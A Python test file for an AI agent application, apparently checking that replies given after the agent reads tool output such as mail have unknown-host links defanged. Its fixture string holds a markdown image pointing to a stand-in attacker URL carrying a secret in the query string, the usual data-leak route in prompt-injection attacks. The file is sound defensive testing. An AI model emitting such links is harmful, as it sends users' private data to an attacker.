"""Replies of tainted turns: no address carries data, neither in the stream nor in the stored reply."""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import replace

import pytest

from arvis.domain.events import Delta
from arvis.domain.outgoing_links import NOTE
from arvis.store.open import Database
from tests.flows.app_harness import HELPER, AppHarness, open_app
from tests.flows.scripted import asking, call

SAYS = "Here: ![map](https://evil.example/?d=hunter2) and https://mail.example/meet/93 for you"


@pytest.fixture
async def app(database: Database) -> AsyncIterator[AppHarness]:
    async with open_app(database, agents=[replace(HELPER, tools=("look",), allow_users=("ann",))]) as app:
        yield app


async def test_a_tainted_reply_has_no_image_of_an_unknown_host(app: AppHarness) -> None:
    app.tools.look.script.append("Meet at https://mail.example/meet/93.")
    app.provider.script += [asking(call(1, "look", words="mail")), SAYS]
    timeline = await app.ask("Read the mail", is_direct=True)
    shown = "Here: [map](https[:]//evil.example/?d=hunter2) and https://mail.example/meet/93 for you"
    assert timeline.reply == f"{shown}\n\n{NOTE}"
    streamed = "".join(event.text for event in app.events if isinstance(event, Delta))
    assert streamed == shown


async def test_a_reply_to_the_persons_own_words_stays(app: AppHarness) -> None:
    app.provider.script.append(SAYS)
    assert (await app.ask("Say it", is_direct=True)).reply == SAYS


async def test_a_later_reply_repeats_links_of_outputs_but_not_those_that_the_agent_wrote(app: AppHarness) -> None:
    app.tools.look.script.append("Meet at https://mail.example/meet/93.")
    app.provider.script += [asking(call(1, "look", words="mail"), text="See https://evil.example/?d=hunter2"), "Seen."]
    await app.ask("Read the mail", is_direct=True)
    app.provider.script.append("At https://mail.example/meet/93, see https://evil.example/?d=hunter2")
    again = await app.ask("Where?", is_direct=True)
    assert again.reply == f"At https://mail.example/meet/93, see https[:]//evil.example/?d=hunter2\n\n{NOTE}"
